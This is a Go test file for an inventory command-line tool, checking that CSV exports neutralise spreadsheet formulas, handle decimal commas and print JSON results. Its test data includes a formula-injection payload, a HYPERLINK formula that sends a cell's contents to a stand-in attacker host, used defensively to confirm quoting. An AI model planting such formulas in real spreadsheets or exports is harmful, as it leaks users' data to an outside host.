package main_test

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// formulaProducts are product IDs a spreadsheet would run as formulas, and ones that
// look like the quote that neutralises them.
var formulaProducts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `@SUM(A1:A9)`, `+1+1`, `-5`, `'=quoted`, `''x`, `'plain`,
}

// formulaCell reports whether a spreadsheet would run cell as a formula.
func formulaCell(cell string) bool {
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r")
}

// TestFormulaInjectionIsNeutralised: export, stock -o csv and history -o csv write no
// text cell a spreadsheet would run, quantities stay numbers (a sale's negative one in
// export too), and export then import into an empty ledger gives the exact product IDs.
func TestFormulaInjectionIsNeutralised(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, id := range formulaProducts {
		mustRun(t, dir, "restock", id, "10", "--date", "2024-05-01", "--note", "=1+1", "--operator", "@evil")
		mustRun(t, dir, "sell", id, "2.5", "--date", "2024-05-02", "--note", "-2+3")
	}

	exported := mustRun(t, dir, "export").stdout
	lines := strings.Split(strings.TrimSuffix(strings.TrimPrefix(exported, "\uFEFF"), "\r\n"), "\r\n")
	if len(lines) != 1+2*len(formulaProducts) {
		t.Fatalf("export has %d lines:\n%s", len(lines), exported)
	}
	r := csv.NewReader(strings.NewReader(strings.Join(lines, "\n")))
	r.Comma = ';'
	cells, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sales := 0
	for _, row := range cells[1:] {
		if formulaCell(row[1]) {
			t.Errorf("export: product cell %q is a live formula", row[1])
		}
		if row[2] == "-2.50" {
			sales++
		}
	}
	if sales != len(formulaProducts) {
		t.Errorf("export: %d sales with the number -2.50 in operation_qt, want %d:\n%s", sales, len(formulaProducts), exported)
	}

	checkCSV := func(args []string, numeric ...int) [][]string {
		t.Helper()
		rows, err := csv.NewReader(strings.NewReader(mustRun(t, dir, args...).stdout)).ReadAll()
		if err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				isNumber := false
				for _, n := range numeric {
					isNumber = isNumber || n == i
				}
				if !isNumber && formulaCell(cell) {
					t.Errorf("stockctl %v: cell %q (column %s) is a live formula", args, cell, rows[0][i])
				}
			}
		}
		return rows
	}
	stock := checkCSV([]string{"stock", "-o", "csv"}, 1)
	got := map[string]bool{}
	for _, row := range stock[1:] {
		got[row[1]] = true
	}
	if len(stock) != 1+len(formulaProducts) || !got["7.50"] || len(got) != 1 {
		t.Errorf("stock -o csv: %q", stock)
	}
	for _, id := range formulaProducts {
		h := checkCSV([]string{"history", id, "-o", "csv"}, 2, 3)
		if len(h) != 3 || h[1][7] != "'=1+1" || h[1][6] != "'@evil" || h[2][7] != "'-2+3" || h[2][2] != "2.50" || h[2][3] != "7.50" {
			t.Errorf("history %q -o csv: %q", id, h)
		}
	}

	path := filepath.Join(t.TempDir(), "export.csv")
	os.WriteFile(path, []byte(exported), 0o644)
	fresh := t.TempDir()
	mustRun(t, fresh, "import", path)
	if a, b := mustRun(t, dir, "stock", "--output", "json").stdout, mustRun(t, fresh, "stock", "--output", "json").stdout; a != b {
		t.Fatalf("export and import changed product IDs:\n%s\n%s", a, b)
	}
}

// TestDecimalComma: a French-style file (';', dd/mm/yyyy, decimal commas) is refused
// with a hint at --decimal-comma, imported with it, and export --decimal-comma then
// import --decimal-comma into an empty ledger gives the same stock.
func TestDecimalComma(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	file := filepath.Join(t.TempDir(), "french.csv")
	os.WriteFile(file, []byte("\uFEFFoperation_date;product_ID;operation_qt;stock\r\n"+
		"02/05/2024;P1;12,50;12,50\r\n03/05/2024;P1;-2,5;10\r\n04/05/2024;P2;7;7\r\n"), 0o644)

	r := run(t, dir, "import", file)
	if r.code != 2 || !strings.Contains(r.stderr, `use a dot for decimals (12.50), or import a file with decimal commas with --decimal-comma`) {
		t.Fatalf("import of decimal commas without --decimal-comma: %v", r)
	}
	mustRun(t, dir, "import", "--decimal-comma", file)
	if levels := stockLevels(t, dir); len(levels) != 2 || levels[0].Stock != "10.00" || levels[1].Stock != "7.00" {
		t.Fatalf("stock after the French file: %+v", levels)
	}
	mustRun(t, dir, "sell", "P1", "0.25")

	exported := mustRun(t, dir, "export", "--decimal-comma").stdout
	for _, want := range []string{";P1;12,50;12,50\r\n", ";P1;-2,50;10\r\n", ";P1;-0,25;9,75\r\n", ";P2;7;7\r\n"} {
		if !strings.Contains(exported, want) {
			t.Errorf("export --decimal-comma lacks %q:\n%s", want, exported)
		}
	}
	path := filepath.Join(t.TempDir(), "export.csv")
	os.WriteFile(path, []byte(exported), 0o644)
	fresh := t.TempDir()
	mustRun(t, fresh, "import", "--decimal-comma", path)
	if a, b := mustRun(t, dir, "stock", "--output", "json").stdout, mustRun(t, fresh, "stock", "--output", "json").stdout; a != b {
		t.Fatalf("stock differs after export --decimal-comma and import --decimal-comma:\n%s\n%s", a, b)
	}
	for _, format := range []string{"json", "jsonl"} {
		if r := run(t, dir, "export", "--decimal-comma", "--format", format); r.code != 2 {
			t.Errorf("export --decimal-comma --format %s: %v", format, r)
		}
	}
	if r := run(t, fresh, "import", "--decimal-comma", "--delimiter", ",", path); r.code != 2 || !strings.Contains(r.stderr, "--decimal-comma") {
		t.Errorf("import --decimal-comma --delimiter ',': %v", r)
	}
}

// recordJSON is what sell and restock print with --output json.
type recordJSON struct {
	EventID         string `json:"event_id"`
	CommandID       string `json:"command_id"`
	IdempotencyKey  string `json:"idempotency_key"`
	Product         string `json:"product"`
	Type            string `json:"type"`
	Quantity        string `json:"quantity"`
	Date            string `json:"date"`
	Stock           string `json:"stock"`
	AlreadyRecorded bool   `json:"already_recorded"`
	Message         string `json:"message"`
}

// TestSellAndRestockOutputJSON: sell and restock -o json print the web API's answer
// with the command ID; a repeat with the same key says already_recorded; a refusal
// prints {"error": {...}} on stdout, the message on stderr, and keeps its exit code.
func TestSellAndRestockOutputJSON(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	decode := func(r result) recordJSON {
		t.Helper()
		var out recordJSON
		dec := json.NewDecoder(strings.NewReader(r.stdout))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&out); err != nil {
			t.Fatalf("not a JSON outcome: %v\n%v", err, r)
		}
		return out
	}
	res := decode(mustRun(t, dir, "restock", "P1", "10", "--date", "2024-05-01", "-o", "json"))
	if res.EventID == "" || res.CommandID == "" || res.Product != "P1" || res.Type != "restock" || res.Quantity != "10.00" ||
		res.Date != "2024-05-01 00:00:00" || res.Stock != "10.00" || res.AlreadyRecorded ||
		res.Message != `restocked 10.00 of "P1" on 2024-05-01 00:00:00; stock now 10.00` {
		t.Errorf("restock -o json: %+v", res)
	}
	// The key printed for a write without one repeats it safely.
	if res.IdempotencyKey == "" || res.CommandID != "key:"+res.IdempotencyKey {
		t.Errorf("restock -o json: idempotency_key %q for command %q", res.IdempotencyKey, res.CommandID)
	} else if again := decode(mustRun(t, dir, "restock", "P1", "10", "--idempotency-key", res.IdempotencyKey, "-o", "json")); !again.AlreadyRecorded || again.EventID != res.EventID {
		t.Errorf("restock again with its printed key: %+v", again)
	}
	sale := decode(mustRun(t, dir, "sell", "P1", "3", "--date", "2024-05-02", "--idempotency-key", "order-1182", "--output", "json"))
	if sale.CommandID != "key:order-1182" || sale.IdempotencyKey != "order-1182" || sale.Type != "sale" || sale.Stock != "7.00" || sale.AlreadyRecorded {
		t.Errorf("sell -o json: %+v", sale)
	}
	again := decode(mustRun(t, dir, "sell", "P1", "3", "--date", "2024-05-02", "--idempotency-key", "order-1182", "-o", "json"))
	if !again.AlreadyRecorded || again.EventID != sale.EventID || again.Stock != "7.00" ||
		!strings.HasPrefix(again.Message, "already recorded: sold 3.00") {
		t.Errorf("repeated sell -o json: %+v", again)
	}

	for _, tc := range []struct {
		args        []string
		code        int
		errCode     string
		field, text string
	}{
		{[]string{"sell", "P1", "30"}, 1, "insufficient_stock", "quantity", "insufficient stock"},
		{[]string{"sell", "P1", "12,5"}, 2, "invalid_quantity", "quantity", "use a dot for decimals"},
		{[]string{"sell", "P1"}, 2, "invalid_usage", "", "takes PRODUCT and QUANTITY"},
		{[]string{"restock", "P1", "3", "--date", "2024-02-30"}, 2, "invalid_date", "date", "--date"},
	} {
		r := run(t, dir, append(tc.args, "-o", "json")...)
		var body struct {
			Error struct {
				ExitCode int    `json:"exit_code"`
				Code     string `json:"code"`
				Message  string `json:"message"`
				Field    string `json:"field"`
			} `json:"error"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &body); err != nil {
			t.Errorf("%v -o json: stdout is not a JSON error: %v\n%v", tc.args, err, r)
			continue
		}
		e := body.Error
		if r.code != tc.code || e.ExitCode != tc.code || e.Code != tc.errCode || e.Field != tc.field ||
			!strings.Contains(e.Message, tc.text) || r.stderr != "stockctl: "+e.Message+"\n" {
			t.Errorf("%v -o json: %+v\n%v", tc.args, e, r)
		}
	}
	if r := run(t, dir, "sell", "P1", "1", "-o", "csv"); r.code != 2 || !strings.Contains(r.stderr, "use text or json") {
		t.Errorf("sell -o csv: %v", r)
	}
	if h := history(t, dir, "P1"); len(h) != 2 {
		t.Errorf("refusals appended something: %+v", h)
	}
}
